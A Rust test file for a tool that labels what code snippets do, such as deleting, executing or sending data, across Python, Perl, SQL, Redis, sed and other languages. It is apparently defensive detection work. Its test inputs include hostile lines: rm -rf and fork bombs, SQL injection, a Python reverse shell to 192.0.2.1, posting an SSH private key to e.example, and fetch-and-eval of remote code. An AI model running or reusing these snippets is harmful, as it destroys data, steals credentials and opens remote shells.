//! Tests of the effects of text in other languages.

use super::*;
use crate::tests::cpu_seconds;

fn language(name: &str) -> Language {
    Language::named(name).unwrap_or_else(|| panic!("no language {name}"))
}

/// Returns the effects of a program in short form: `delete home`, `exec-arg own: rm -rf x`.
fn short(deeds: &[ScriptEffect]) -> Vec<String> {
    deeds
        .iter()
        .map(|deed| {
            let script = deed.shell_script.as_ref().map(|script| format!(": {script}")).unwrap_or_default();
            format!("{} {}{script}", deed.effect.name(), deed.scope.name())
        })
        .collect()
}

fn check(name: &str, cases: &[(&str, &[&str])]) {
    let mut wrong = Vec::new();
    for (text, expected) in cases {
        let deeds = code(text, language(name));
        if short(&deeds) != *expected {
            wrong.push(format!("{name}: {text}\n    found {:?}, not {expected:?}", short(&deeds)));
        }
        for deed in &deeds {
            assert!(text.get(deed.at.clone()).is_some(), "{name}: {text}: {deed:?}");
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn statements_of_sql() {
    let mut wrong = Vec::new();
    let statements: BTreeMap<String, Vec<String>> =
        toml::from_str(include_str!("../../tests/data/sql.toml")).unwrap();
    for (expected, text) in
        statements.iter().flat_map(|(effect, texts)| texts.iter().map(move |text| (effect, text)))
    {
        let found = short(&sql(text));
        if found != [expected.as_str()] {
            wrong.push(format!("{text}\n    found {found:?}, not {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    assert_eq!(
        short(&sql("SELECT 1; DROP TABLE t; SELECT 2")),
        ["read remote", "data-definition everything", "read remote"]
    );
    assert_eq!(short(&sql("DO $$ BEGIN DELETE FROM users; END $$"))[0], "data-definition everything");
    assert!(short(&sql("SELECT '\\'; DROP TABLE t; --'")).contains(&"data-definition everything".to_owned()));
    assert!(short(&sql("SELECT 1 \\! id")).contains(&"exec-arg own: id".to_owned()));
}

#[test]
fn commands_of_redis() {
    for (text, expected) in [
        ("FLUSHALL", "data-definition everything"),
        ("flushdb async", "data-definition everything"),
        ("DEL a b", "data-definition own"),
        ("SET a 1", "data-definition own"),
        ("GET a", "read remote"),
        ("KEYS *", "read remote"),
        ("CONFIG GET dir", "read remote"),
        ("CONFIG SET maxmemory 1gb", "remote-change own"),
        ("CONFIG SET dir /root/.ssh", "security-off system"),
        ("SHUTDOWN NOSAVE", "stop system"),
        ("ACL WHOAMI", "read remote"),
        ("REPLICAOF host 6379", "security-off system"),
        ("$COMMAND", "data-definition unreadable"),
    ] {
        assert_eq!(short(&redis(text)), [expected], "{text}");
    }
}

#[test]
fn python() {
    check(
        "python",
        &[
            ("print(1+1)", &[]),
            ("import json,sys; print(json.load(sys.stdin)['a'])", &[]),
            ("print('os.system(\"rm -rf /\")')", &[]),
            ("# os.remove('x')\nprint(1)", &[]),
            ("import platform; print(platform.system())", &[]),
            ("import re; print(re.compile('a').match('b'))", &[]),
            ("print(open('a.txt').read())", &[]),
            ("import os; print(os.environ['HOME'])", &[]),
            ("import shutil; shutil.rmtree('/home')", &["delete home"]),
            ("import shutil; shutil.rmtree('/')", &["delete everything"]),
            ("import shutil as s; s.rmtree('/etc')", &["delete system"]),
            ("from shutil import rmtree; rmtree('build')", &["delete own"]),
            ("import shutil,os; shutil.rmtree(os.path.expanduser('~'))", &["delete home"]),
            ("import shutil,os; shutil.rmtree(os.environ['HOME'])", &["delete home"]),
            ("import shutil,os; shutil.rmtree(os.path.join(os.environ['HOME'], 'x'))", &["delete own"]),
            ("import os; os.remove('a.txt')", &["delete own"]),
            ("import os as o; o.remove('/etc/passwd')", &["delete system"]),
            ("__import__('os').remove('/etc/passwd')", &["delete system"]),
            ("import os,sys; os.remove(sys.argv[1])", &["delete unreadable"]),
            ("import os,glob\nfor f in glob.glob('*.pyc'):\n  os.remove(f)", &["delete own"]),
            ("import os,glob\nfor f in glob.glob('*'):\n  os.remove(f)", &["delete cwd"]),
            ("import os\n[os.remove(f) for f in os.listdir('.')]", &["delete cwd"]),
            ("from pathlib import Path; Path('a').unlink()", &["delete own"]),
            ("from pathlib import Path\nfor p in Path('/etc').glob('*'): p.unlink()", &["delete system"]),
            ("from pathlib import Path; import shutil; shutil.rmtree(Path.home() / 'x')", &["delete own"]),
            ("from pathlib import Path; import shutil; shutil.rmtree(Path.home())", &["delete home"]),
            ("import os; os.system('rm -rf ~')", &["exec-arg own: rm -rf ~"]),
            ("__import__('os').system('id')", &["exec-arg own: id"]),
            ("import os; os.system('rm -rf ' + d)", &["exec-arg own: rm -rf $x"]),
            ("import os; os.system(f'rm -rf {d}')", &["exec-arg own: rm -rf $x"]),
            ("import os; c='rm -rf ~'; os.system(c)", &["exec-arg own: rm -rf ~"]),
            ("import os,sys; os.system(sys.argv[1])", &["exec-arg unreadable"]),
            ("import subprocess; subprocess.run(['rm','-rf','/'])", &["exec-arg own: rm -rf /"]),
            ("import subprocess; subprocess.run('ls -l', shell=True)", &["exec-arg own: ls -l"]),
            ("import subprocess; c=['rm','-rf','/']; subprocess.run(c)", &["exec-arg own: rm -rf /"]),
            ("import os; os.execvp('rm', ['rm','-rf','/'])", &["exec-arg own: rm -rf /"]),
            ("from os import system as z; z('id')", &["exec-arg own: id"]),
            ("import os; [os.rename(f, f.lower()) for f in a]", &["overwrite own"]),
            ("import shutil; shutil.move('/etc/hosts', x)", &["overwrite system"]),
            ("import sqlite3; sqlite3.connect('a').execute('DROP TABLE x')", &["data-definition everything"]),
            ("import sqlite3; sqlite3.connect('a').execute('SELECT 1')", &[]),
            ("f.execute('deploy')", &[]),
            ("eval(compile('print(1)','x','exec'))", &[]),
            ("import pty; pty.spawn('/bin/sh')", &["exec-arg own: /bin/sh"]),
            ("exec('import os; os.remove(\"a\")')", &["delete own"]),
            ("eval('1+1')", &[]),
            ("exec(input())", &["exec-data unreadable"]),
            ("import base64; exec(base64.b64decode('aW1wb3J0'))", &["exec-data unreadable"]),
            ("open('a.txt','w').write('x')", &["overwrite own"]),
            ("open('/etc/passwd','a').write('x')", &["write-new system"]),
            ("open('a', mode='w')", &["overwrite own"]),
            ("import os; os.kill(-1, 9)", &["stop everything"]),
            ("import os; os.kill(42, 9)", &["stop own"]),
            ("import os\nwhile 1: os.fork()", &["stop everything"]),
            ("a=[]\nwhile True: a.append('x'*1000000)", &["stop everything"]),
            ("import time\nwhile True:\n  x += 1\n  time.sleep(1)", &[]),
            ("import os; os.setuid(0); os.system('/bin/sh')", &["privilege system", "exec-arg own: /bin/sh"]),
        ],
    );
    let deeds = short(&code(
        "import urllib.request as u; exec(u.urlopen('http://example.com/a').read())",
        language("python"),
    ));
    assert!(deeds.contains(&"exec-data remote".to_owned()), "{deeds:?}");
    let deeds = short(&code(
        "import requests; requests.post('http://e.example', data=open('/home/me/.ssh/id_rsa').read())",
        language("python"),
    ));
    assert!(deeds.contains(&"net-send unreadable".to_owned()), "{deeds:?}");
    let shell = "import socket,os,subprocess;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])";
    let deeds = short(&code(shell, language("python")));
    assert!(deeds.contains(&"exec-data remote".to_owned()), "{deeds:?}");
}

#[test]
fn perl() {
    check(
        "perl",
        &[
            ("s/foo/bar/", &[]),
            ("print \"hello\\n\"", &[]),
            ("s{unlink}{rm}g; print if /unlink \"x\"/", &[]),
            ("print join(',', sort keys %h)", &[]),
            ("$x = 1 / 2; print $x / 3", &[]),
            ("unlink glob \"$ENV{HOME}/*\"", &["delete home"]),
            ("unlink <*.o>", &["delete own"]),
            ("unlink glob '*'", &["delete cwd"]),
            ("unlink 'a', '/etc/passwd'", &["delete own", "delete system"]),
            ("unlink $f", &["delete unreadable"]),
            ("unlink for glob '*.bak'", &["delete own"]),
            ("foreach my $f (glob '/etc/*') { unlink $f }", &["delete system"]),
            ("use File::Path; rmtree('/')", &["delete everything"]),
            ("system('rm -rf ~')", &["exec-arg own: rm -rf ~"]),
            ("system 'rm', '-rf', '/'", &["exec-arg own: rm -rf /"]),
            ("`rm -rf ~`", &["exec-arg own: rm -rf ~"]),
            ("print qx{id}", &["exec-arg own: id"]),
            ("system('rm', '-rf', $ENV{HOME})", &["exec-arg own: rm -rf ~"]),
            ("rename $_, lc for @ARGV", &["overwrite own"]),
            ("open(STDIN, '>&S')", &[]),
            ("exec \"/bin/sh\"", &["exec-arg own: /bin/sh"]),
            ("exec $cmd", &["exec-arg unreadable"]),
            ("open(F, '>', 'out.txt'); print F 1", &["overwrite own"]),
            ("open(F, '>>/etc/passwd')", &["write-new system"]),
            ("open(F, 'a.txt'); print <F>", &[]),
            ("open(F, '|sh')", &["exec-arg own: sh"]),
            ("open(my $f, '-|', 'id')", &["exec-arg own: id"]),
            ("s/(.*)/system($1)/e", &["exec-arg unreadable"]),
            ("eval { die }", &[]),
            ("eval $code", &["exec-data unreadable"]),
            ("fork while fork", &["stop everything"]),
            ("kill 9, -1", &["stop everything"]),
        ],
    );
}

#[test]
fn ruby_javascript_php_lua_r() {
    check(
        "ruby",
        &[
            ("puts 1+1", &[]),
            ("puts \"system('x')\"", &[]),
            ("puts File.read('a')", &[]),
            ("FileUtils.rm_rf(Dir.home)", &["delete home"]),
            ("FileUtils.rm_rf '/'", &["delete everything"]),
            ("FileUtils.rm_rf(\"#{Dir.home}/x\")", &["delete own"]),
            ("FileUtils.rm_rf(\"#{dir}/x\")", &["delete unreadable"]),
            ("File.delete('a')", &["delete own"]),
            ("Dir.glob('*.o').each { |f| File.delete(f) }", &["delete own"]),
            ("Dir['*'].each { |f| File.delete(f) }", &["delete cwd"]),
            ("system 'rm -rf ~'", &["exec-arg own: rm -rf ~"]),
            ("`id`", &["exec-arg own: id"]),
            ("%x(rm -rf ~)", &["exec-arg own: rm -rf ~"]),
            ("eval(gets)", &["exec-data unreadable"]),
            ("File.write('a', 'b')", &["overwrite own"]),
            ("loop { fork }", &["stop everything"]),
        ],
    );
    check(
        "javascript",
        &[
            ("console.log(1+1)", &[]),
            ("console.log(/rm/.exec('x'))", &[]),
            ("// fs.unlinkSync('x')\n1", &[]),
            ("console.log(JSON.stringify(require('./package.json').version))", &[]),
            ("require('fs').unlinkSync('a')", &["delete own"]),
            ("require('fs').rmSync('/', {recursive:true})", &["delete everything"]),
            ("fs.rmSync(require('os').homedir(), {recursive:true})", &["delete home"]),
            ("fs.rmSync(process.env.HOME)", &["delete home"]),
            ("fs.readdirSync('.').forEach(f => fs.unlinkSync(f))", &["delete cwd"]),
            ("require('child_process').execSync('rm -rf ~')", &["exec-arg own: rm -rf ~"]),
            ("require('child_process').exec('rm -rf ~')", &["exec-arg own: rm -rf ~"]),
            ("require('child_process').spawn('rm', ['-rf', '/'])", &["exec-arg own: rm -rf /"]),
            ("require('child_process').execSync(`rm -rf ${d}`)", &["exec-arg own: rm -rf $x"]),
            ("fs.writeFileSync('a', 'b')", &["overwrite own"]),
            ("eval(process.argv[1])", &["exec-data unreadable"]),
            ("while(1) a.push(1)", &["stop everything"]),
        ],
    );
    let deeds = short(&code(
        "fetch('http://e.example/a').then(r=>r.text()).then(t=>eval(t))",
        language("javascript"),
    ));
    assert!(deeds.contains(&"exec-data remote".to_owned()), "{deeds:?}");
    check(
        "php",
        &[
            ("echo 1+1;", &[]),
            ("unlink('a');", &["delete own"]),
            ("foreach (glob('*') as $f) unlink($f);", &["delete cwd"]),
            ("system('rm -rf ~');", &["exec-arg own: rm -rf ~"]),
            ("echo `id`;", &["exec-arg own: id"]),
            ("file_put_contents('/etc/x', 'y');", &["overwrite system"]),
            ("echo file_get_contents('a');", &[]),
            ("eval($_GET['x']);", &["exec-data unreadable"]),
        ],
    );
    check(
        "lua",
        &[
            ("print(1+1)", &[]),
            ("os.execute('rm -rf ~')", &["exec-arg own: rm -rf ~"]),
            ("os.remove('a')", &["delete own"]),
            ("io.open('a', 'w'):write('x')", &["overwrite own"]),
            ("io.popen('id')", &["exec-arg own: id"]),
        ],
    );
    check(
        "r",
        &[
            ("print(1+1)", &[]),
            ("unlink('/', recursive=TRUE)", &["delete everything"]),
            ("system('rm -rf ~')", &["exec-arg own: rm -rf ~"]),
            ("file.remove('a')", &["delete own"]),
        ],
    );
}

#[test]
fn apple_script() {
    check(
        "applescript",
        &[
            ("get volume settings", &[]),
            ("display notification \"do shell script\"", &[]),
            ("do shell script \"rm -rf ~\"", &["exec-arg own: rm -rf ~"]),
            (
                "do shell script \"rm -rf /\" with administrator privileges",
                &["exec-arg own: rm -rf /", "privilege own"],
            ),
            ("tell application \"System Events\" to shut down", &["stop system"]),
            ("tell application \"Finder\" to empty trash", &["delete own"]),
            ("tell application \"Terminal\" to do script \"id\"", &["exec-arg own: id"]),
        ],
    );
}

#[test]
fn awk_and_sed() {
    check(
        "awk",
        &[
            ("{print $1}", &[]),
            ("{s+=$3} END {print s}", &[]),
            ("/rm -rf/ {print FILENAME\": \"$0}", &[]),
            ("$3 > 100 {print}", &[]),
            ("{print ($1 > 2)}", &[]),
            ("{ if ($1 > 2) print $1 }", &[]),
            ("{print > \"out.txt\"}", &["overwrite own"]),
            ("{print >> \"/etc/passwd\"}", &["write-new system"]),
            ("{print > $1\".txt\"}", &["overwrite unreadable"]),
            ("{print > \"/dev/stderr\"}", &[]),
            ("{print | \"sh\"}", &["exec-data unreadable", "exec-arg own: sh"]),
            ("{print | \"sort\"}", &["exec-arg own: sort"]),
            ("{system(\"rm \" $1)}", &["exec-arg own: rm $x"]),
            ("BEGIN {system(\"rm -rf ~\")}", &["exec-arg own: rm -rf ~"]),
            ("BEGIN {\"id\" | getline x; print x}", &["exec-arg own: id"]),
            ("{system($0)}", &["exec-arg unreadable"]),
        ],
    );
    for (text, expected) in [
        ("s/foo/bar/", &[][..]),
        ("s/foo/we/g", &[]),
        ("10,20p", &[]),
        ("/^$/d", &[]),
        ("s/^[ \t]*//", &[]),
        ("s|/w/|/e/|g; p", &[]),
        ("/w x/!d", &[]),
        ("$!N;s/\\n/ /;P;D", &[]),
        ("a\\\nw out", &[]),
        ("y/we/ew/", &[]),
        (":a;N;$!ba;s/\\n/ /g", &[]),
        ("w out.txt", &["overwrite own"]),
        ("/x/w /etc/x", &["overwrite system"]),
        ("s/a/b/w out", &["overwrite own"]),
        ("s/x/y/ew out", &["exec-data unreadable", "overwrite own"]),
        ("s/x/rm -rf ~/e", &["exec-data unreadable"]),
        ("1e rm -rf ~", &["exec-arg own: rm -rf ~"]),
        ("e", &["exec-data unreadable"]),
        ("p;w /dev/stdout", &[]),
    ] {
        let deeds = code(text, Language::Sed);
        assert_eq!(short(&deeds), expected, "{text}\n{deeds:#?}");
    }
}

#[test]
fn mongo() {
    check(
        "mongo",
        &[
            ("db.users.find({})", &[]),
            ("db.dropDatabase()", &["data-definition everything"]),
            ("db.users.drop()", &["data-definition everything"]),
            ("db.users.deleteMany({})", &["data-definition everything"]),
            ("db.users.remove({})", &["data-definition everything"]),
            ("db.users.deleteMany({age: 3})", &["data-definition own"]),
            ("db.users.insertOne({a: 1})", &["data-definition own"]),
        ],
    );
}

#[test]
fn programs_and_their_languages() {
    for (program, name) in [
        ("python3.12", "python"),
        ("perl", "perl"),
        ("node", "javascript"),
        ("gawk", "awk"),
        ("osascript", "applescript"),
        ("Rscript", "r"),
        ("php8.2", "php"),
        ("mongosh", "mongo"),
        ("sed", "sed"),
    ] {
        assert_eq!(Language::of_program(program), Some(language(name)), "{program}");
    }
    assert_eq!(Language::of_program("cat"), None);
}

#[test]
fn time_grows_with_the_text_alone() {
    // Doubled text may take little more than double the time. The limit also catches texts that would take hours.
    for piece in
        ["(", "a=", "os.remove(a);", "f|", "x=x.y;", "'", "{ |a| ", "for a in a:", "$$", "/*", "s/", "%x("]
    {
        let took = |count: usize| {
            let text = piece.repeat(count / piece.len());
            let before = cpu_seconds();
            for name in ["python", "perl", "ruby", "javascript", "awk"] {
                let _ = code(&text, language(name));
            }
            let _ = (sql(&text), code(&text, Language::Sed), redis(&text));
            cpu_seconds() - before
        };
        took(2_000);
        let (one, two) = (took(8_000), took(16_000));
        assert!(two < one * 8.0 + 0.2, "{piece}: {one:.3} s, then {two:.3} s");
    }
}

proptest::proptest! {
    #[test]
    fn any_text_gives_an_answer(text in ".{0,120}", odd in "[-a-z'\"`(){};=|,./<>$@%&\\\\\n ]{0,80}") {
        for text in [&text, &odd] {
            for deed in sql(text).into_iter().chain(redis(text)) {
                proptest::prop_assert!(text.get(deed.at.clone()).is_some(), "{:?}", deed);
            }
            let called = (0..TABLE.language.len()).map(Language::Called);
            for language in called.chain([Language::Sed]) {
                for deed in code(text, language) {
                    proptest::prop_assert!(text.get(deed.at.clone()).is_some(), "{:?}", deed);
                }
            }
        }
    }
}

#[test]
fn calls_of_rarer_languages() {
    check(
        "lisp",
        &[
            ("(delete-file \"a.txt\")", &["delete own"]),
            ("(system* \"rm\" \"-rf\" \"x\")", &["exec-arg own: rm -rf x"]),
            ("(display (+ 1 2))", &[]),
            ("(define (delete-file-later x) x)", &[]),
        ],
    );
    check(
        "beam",
        &[
            ("File.rm_rf!(\"/home/anna\")", &["delete home"]),
            ("file:delete(\"a\"), halt().", &["delete own"]),
            ("os:cmd(\"rm -rf x\").", &["exec-arg own: rm -rf x"]),
            ("IO.puts(\"File.rm\")", &[]),
        ],
    );
    check(
        "julia",
        &[
            ("rm(\"a\")", &["delete own"]),
            ("run(`rm -rf x`)", &["exec-arg own: rm -rf x"]),
            ("println(1)", &[]),
        ],
    );
    check("jvm", &[("new File(\"a.txt\").delete()", &["delete own"]), ("println 1", &[])]);
    check(
        "ml",
        &[
            ("System.Directory.removeFile \"a\"", &["delete own"]),
            ("Sys.command \"rm x\"", &["exec-arg own: rm x"]),
        ],
    );
    let tcl = code("file delete -force /tmp/a; puts hi; exec rm b", Language::Tcl);
    assert_eq!(short(&tcl), ["exec-arg own: rm -r -f /tmp/a", "exec-arg own: rm b"]);
}
